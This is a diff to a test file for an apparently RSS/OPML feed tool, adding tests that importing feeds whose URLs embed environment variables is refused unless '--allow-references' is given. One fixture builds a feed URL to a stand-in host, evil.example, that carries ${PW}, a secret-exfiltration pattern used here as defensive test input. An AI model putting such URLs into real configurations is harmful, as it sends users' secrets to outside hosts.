@@ -40,12 +40,14 @@ topics: [Venezuela]
     expect([status, stdout, stderr]).toEqual([0, 'Exported 4 feeds to feeds.opml.\n', '']);
     expect(read('feeds.opml')).not.toContain('hunter2');
     write('other.yaml', EMPTY);
-    expect(await vigia('import', 'feeds.opml', '--config', 'other.yaml')).toMatchObject({
-      status: 0,
-      stdout: 'Added 4 feeds to other.yaml.\n',
-      stderr:
-        'https://***@secret.example/feed takes ${PW} from this machine, and sends it to secret.example.\n',
-    });
+    expect(await vigia('import', 'feeds.opml', '--allow-references', '--config', 'other.yaml')).toMatchObject(
+      {
+        status: 0,
+        stdout: 'Added 4 feeds to other.yaml.\n',
+        stderr:
+          'https://***@secret.example/feed takes ${PW} from this machine, and sends it to secret.example.\n',
+      },
+    );
     const feeds = async (file: string) =>
       JSON.parse((await vigia('feeds', '--json', '--config', file)).stdout);
     expect(await feeds('other.yaml')).toEqual(
@@ -177,7 +179,10 @@ describe('import', () => {
     const outline =
       '<outline xmlUrl="https://evil.example/?${PW}"/><outline xmlUrl="https://a.example/${NONE}" vigia:name=""/>';
     write('in.opml', `<opml><body>${outline}</body></opml>`);
-    const { status, stderr } = await vigia('import', 'in.opml');
+    const careful = await vigia('import', 'in.opml');
+    expect(careful.status).toBe(1);
+    expect(careful.stderr).toMatch(/line 1: .*takes \$\{NONE\} from this machine; .*--allow-references/);
+    const { status, stderr } = await vigia('import', 'in.opml', '--allow-references');
     expect(status).toBe(1);
     expect(stderr).toMatch(/line 1: .*only taken from a file that `vigia export` wrote/);
     expect(stderr).toMatch(/line 1: .*NONE is not set/);
